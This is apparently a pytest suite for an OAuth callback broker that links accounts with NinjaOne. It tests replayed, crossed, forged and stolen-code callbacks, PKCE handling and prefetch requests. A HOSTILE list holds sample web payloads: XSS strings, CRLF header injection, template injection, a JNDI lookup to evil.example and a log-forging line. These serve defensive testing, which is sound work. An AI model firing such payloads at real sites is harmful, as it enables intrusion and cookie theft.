"""The way back from NinjaOne: replayed, raced, mixed up, forged, and only looked at."""

from collections.abc import Callable, Iterator
from urllib.parse import urlencode, urlsplit

import httpx
import pytest

from local.browser import Browser
from local.world import World
from tests.support.http_flow import Backend, Flow, row_of, slug
from tests.support.person import RHONE, query_of
from tools.requirements import req

OpenBrowser = Callable[[], Browser]
REFUSED = "This answer from NinjaOne can’t be used"
ELSEWHERE = (303, "/notice/refused-callback")


@pytest.fixture
def other(world: World, backend: Backend, browser: OpenBrowser) -> Flow:
    """Somebody else, in a browser and a tenant of their own."""
    return Flow(world, backend, browser(), "elsewhere", user="other")


def ended(page: httpx.Response) -> tuple[int, str]:
    """Say where a callback sent the browser, its query left out."""
    return page.status_code, urlsplit(page.headers.get("location", "")).path


def stage(world: World, flow: Flow) -> str:
    return str(row_of(world, flow.session)["stage"]["S"])


def spent(world: World) -> list[str]:
    """List what NinjaOne was asked by the broker itself."""
    return [each.name for each in world.ninjaone.events if each.name in {"code.exchanged", "request.refused"}]


# Once ----------------------------------------------------------------------------------------------------------------


# Whose way ------------------------------------------------------------------------------------------------------------


@req("B05", "B06")
@pytest.mark.parametrize("brought", ["none", "another flow's", "invented", "two"])
def test_without_its_own_cookie_a_callback_is_refused_and_spends_nothing(
    world: World, flow: Flow, other: Flow, brought: str
) -> None:
    other.back()
    callback = flow.back()
    (name, held), (_, foreign) = (*flow.browser.cookies.items(),)[0], (*other.browser.cookies.items(),)[0]
    header = {
        "none": "",
        "another flow's": f"{name}={foreign}",
        "invented": f"{name}={'x' * 43}",
        "two": f"{name}={'x' * 43}; {name}={held}",
    }[brought]

    refused = httpx.get(callback, headers={"Cookie": header}, trust_env=False)

    assert ended(refused) == ELSEWHERE
    assert stage(world, flow) == "started"
    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("B02")
def test_two_tabs_finish_side_by_side(world: World, backend: Backend, browser: OpenBrowser, tenant: str) -> None:
    shared = browser()
    first, second = (Flow(world, backend, shared, tenant, user=user).open() for user in ("one", "two"))

    first.leave()
    at_ninjaone = shared.page.location
    back_second = second.back()
    shared.get(at_ninjaone)
    back_first = first.agree()
    tickets = [query_of(shared.get(back).location)["ticket"] for back in (back_first, back_second)]

    for each, ticket in zip((first, second), tickets, strict=True):
        assert each.complete(ticket).status_code == 200


@req("C05", "B05")
def test_the_state_of_one_tab_with_the_code_of_another_connects_nothing_foreign(
    world: World, backend: Backend, browser: OpenBrowser, tenant: str
) -> None:
    shared = browser()
    first, second = (Flow(world, backend, shared, tenant, user=user) for user in ("one", "two"))
    codes = [query_of(each.back())["code"] for each in (first, second)]
    states = [query_of(shared.pages[index].location)["state"] for index in left_at(shared)]

    crossed = shared.get(f"{world.connect_url}/callback/eu?{urlencode({'code': codes[1], 'state': states[0]})}")
    answer = first.complete(query_of(crossed.location)["ticket"])

    assert (answer.status_code, slug(answer)) == (409, "code-refused")


def left_at(browser: Browser) -> Iterator[int]:
    """Find where a browser left for NinjaOne."""
    return (index for index, page in enumerate(browser.pages) if page.url.endswith("/authorize") and page.location)


@req("C05", "A05")
@pytest.mark.parametrize("pkce", ["enforce", "ignore"])
def test_a_stolen_code_does_not_connect_the_victims_account(world: World, flow: Flow, other: Flow, pkce: str) -> None:
    """The attacker puts the victim's code into a flow of his own. Where NinjaOne checks no PKCE, he still must complete
    for himself: the victim's account lands in nobody's tenant without her product's login."""
    world.ninjaone.switches.update({"pkce": pkce})
    try:
        stolen = query_of(other.back(email=RHONE))["code"]
        mine = query_of(flow.back())
        crossed = flow.browser.get(f"{world.connect_url}/callback/eu?{urlencode(mine | {'code': stolen})}")
        answer = flow.complete(query_of(crossed.location)["ticket"])
    finally:
        world.ninjaone.switches.reset()

    if pkce == "enforce":
        assert (answer.status_code, slug(answer)) == (409, "code-refused")
    else:  # the residual risk that SECURITY.md names: single use and the client's own secret are what is left
        assert [each["name"] for each in answer.json()["organizations"]] == ["Atelier Lumière", "Clinique du Parc"]
        assert other.complete("t" * 43).status_code == 409


@req("A04")
@pytest.mark.parametrize("pkce", ["enforce", "ignore"])
def test_a_way_ends_well_whether_ninjaone_checks_pkce_or_not(world: World, flow: Flow, pkce: str) -> None:
    world.ninjaone.switches.update({"pkce": pkce})
    try:
        made = flow.connect()
    finally:
        world.ninjaone.switches.reset()

    assert made["status"] == "active"


@req("A05", "C02")
def test_pkce_is_no_substitute_for_the_state(world: World, flow: Flow) -> None:
    sent = query_of(flow.back())
    base = f"{world.connect_url}/callback/eu"

    for state in (
        "",
        "x",
        f"{flow.session}.{'s' * 43}",
        sent["state"][:-1],
        sent["state"] + "x",
        sent["state"].upper(),
    ):
        page = flow.browser.get(f"{base}?{urlencode({'code': sent['code'], 'state': state})}")
        assert page.location.startswith(f"{world.connect_url}/notice/"), state
        if state.startswith(flow.session):
            break
    assert stage(world, flow) == "started"


# What it says ---------------------------------------------------------------------------------------------------------


HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "access_denied\r\nset-cookie: stolen=yes",
    "%0d%0a%0d%0aattacker: https://evil.example",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a}",
    '","forged":"line of an attacker"}',
    "forgedword_of_an_attacker",
]


# Its page and its cookie ----------------------------------------------------------------------------------------------


@req("C13", "G10b", "E02")
def test_no_page_is_shown_at_an_address_with_a_code_in_it(world: World, flow: Flow) -> None:
    callback = flow.back()

    for query in ("", "code=x&state=y", urlsplit(callback).query + "&iss=x", urlsplit(callback).query):
        answer = flow.browser.get(f"{world.connect_url}/callback/eu?{query}")
        assert (answer.status, answer.answer.content) == (303, b"")
        assert "code" not in query_of(answer.location)
        assert "state" not in query_of(answer.location)


@req("B04")
@pytest.mark.parametrize("decision", ["Authorize", "Deny access"])
def test_the_cookie_lives_on_for_as_long_as_a_code_does(flow: Flow, decision: str) -> None:
    home = flow.browser.get(flow.back(decision=decision))

    assert "Max-Age=45" in home.headers["set-cookie"]


@req("C03", "C04")
def test_a_callback_whose_answer_was_lost_goes_home_with_the_same_ticket(world: World, flow: Flow) -> None:
    callback = flow.back()
    homes = [flow.browser.get(callback).location for _ in range(2)]

    made = [flow.complete(query_of(home)["ticket"]) for home in homes]

    assert homes[0] == homes[1]
    assert [each.status_code for each in made] == [200, 200]
    assert len({each.json()["connection_id"] for each in made}) == 1
    assert spent(world)[-1:] == ["code.exchanged"]


@req("C04", "B05")
def test_a_callback_that_was_read_in_a_log_shows_nobody_the_ticket(flow: Flow, browser: OpenBrowser) -> None:
    callback = flow.back()
    flow.browser.get(callback)

    assert ended(browser().get(callback).answer) == ELSEWHERE


@req("B04")
def test_the_cookie_of_an_expired_way_is_deleted(world: World, flow: Flow) -> None:
    callback = flow.back()

    world.clock.advance(601)
    answer = flow.browser.get(callback)

    assert "Max-Age=0" in answer.headers["set-cookie"]


@req("B06")
def test_a_forged_callback_leaves_the_browser_its_cookie(world: World, flow: Flow) -> None:
    callback = flow.back()
    forged = urlencode({"code": "x", "state": f"{flow.session}.{'s' * 43}"})

    flow.browser.get(f"{world.connect_url}/callback/eu?{forged}")

    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("C14")
@pytest.mark.parametrize(
    ("method", "headers", "status"),
    [
        ("HEAD", {}, 405),
        ("OPTIONS", {"Origin": "https://evil.example", "Access-Control-Request-Method": "GET"}, 405),
        ("POST", {}, 405),
        ("TRACE", {}, 405),
        ("GET", {"Sec-Purpose": "prefetch"}, 400),
        ("GET", {"Sec-Purpose": "prefetch;prerender"}, 400),
        ("GET", {"Purpose": "prefetch"}, 400),
    ],
)
def test_looking_ahead_spends_nothing(
    world: World, flow: Flow, method: str, headers: dict[str, str], status: int
) -> None:
    callback = flow.back()
    cookie = "; ".join(f"{name}={held}" for name, held in flow.browser.cookies.items())

    looked = httpx.request(method, callback, headers={"Cookie": cookie, **headers}, trust_env=False)

    assert looked.status_code == status
    assert cookie not in looked.text
    assert stage(world, flow) == "started"
    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("C08", "G10")
def test_the_page_after_a_refused_callback_has_its_reference_and_a_way_on(world: World, flow: Flow) -> None:
    callback = flow.back()
    refused = httpx.get(callback, trust_env=False)

    page = httpx.get(world.connect_url + refused.headers["location"], trust_env=False)

    reference = query_of(refused.headers["location"])["reference"]
    assert f"Reference for support: <code>{reference}</code>" in page.text
    assert f'href="{world.product_url}/ninjaone/return">Go to' in page.text
    assert [line for line in world.log_lines if reference in line and "callback.refused" in line]


@req("C08")
@pytest.mark.parametrize("told", ["call-0800", "K7QF-2M6P-X", "k7qf-2m6p", "K7QF", "<b>", "AAAA-AAAA%0a"])
def test_nobody_puts_words_of_their_own_on_a_notice(world: World, told: str) -> None:
    page = httpx.get(f"{world.connect_url}/notice/used?reference={told}", trust_env=False)

    assert "Reference" not in page.text
